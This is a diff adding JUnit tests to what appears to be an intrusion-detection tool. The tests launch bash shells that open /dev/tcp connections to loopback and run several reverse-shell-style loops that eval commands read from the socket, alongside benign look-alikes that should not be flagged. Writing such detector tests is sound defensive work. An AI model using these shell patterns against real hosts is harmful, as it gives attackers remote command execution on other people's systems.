@@ -35,6 +35,8 @@ import java.util.function.Predicate;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 /** What intruders do, done for real over the loopback, and what people do that looks like it. */
 class RealBehaviourTest {
@@ -150,6 +152,53 @@ class RealBehaviourTest {
                                     .isEqualTo(Behaviour.NONE));
                 }
                 assertThat(sweep.processes()).isNotEmpty();
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "cat <&5 | while read -r line; do $line 2>&5 >&5; done; true",
+                "cat <&5 | sed -u s/^x// | while read -r line; do eval \"$line\"; done >&5; true",
+                "while read -r -u 5 line; do eval \"$line\" >&5 2>&1; done",
+                "while read -r line <&5; do eval \"$line\" >&5 2>&1; done",
+                "mapfile -u 5 -n 1 lines; eval \"$lines\""
+            })
+    void a_shell_that_takes_its_commands_from_a_connection_beside_its_streams(String commands) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, LOOPBACK)) {
+            Process shell = bash("exec 5<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; " + commands);
+            try (Socket _ = server.accept()) {
+                assertThat(behaviour(shell.pid(), seen -> seen.connection().isPresent())
+                                .connection()
+                                .orElseThrow()
+                                .connection()
+                                .remotePort())
+                        .isEqualTo(server.getLocalPort());
+            }
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "while sleep 60; do echo alive >&5; done",
+                "tail -f /dev/null | while read -r line; do echo \"$line\" >&5; done; true",
+                "sleep 60 <&5; true",
+                "cat <&5 > /dev/null; true",
+                "cat <&5 | grep x | cat > /dev/null; true",
+                "tail -f /dev/null | sh; true"
+            })
+    void a_shell_that_holds_a_connection_is_not_told_what_to_do_by_it(String commands) throws IOException {
+        try (ServerSocket server = new ServerSocket(0, 1, LOOPBACK)) {
+            Process shell = bash("exec 5<>/dev/tcp/127.0.0.1/" + server.getLocalPort() + "; " + commands);
+            try (Socket _ = server.accept()) {
+                await().until(() -> shell.descendants().findAny().isPresent());
+                Set<Integer> shells = shellsBelow(shell);
+                for (int round = 0; round < 3; round++) {
+                    assertThat(seen(shells, found -> found.connection().isPresent()))
+                            .isEmpty();
+                }
             }
         }
     }
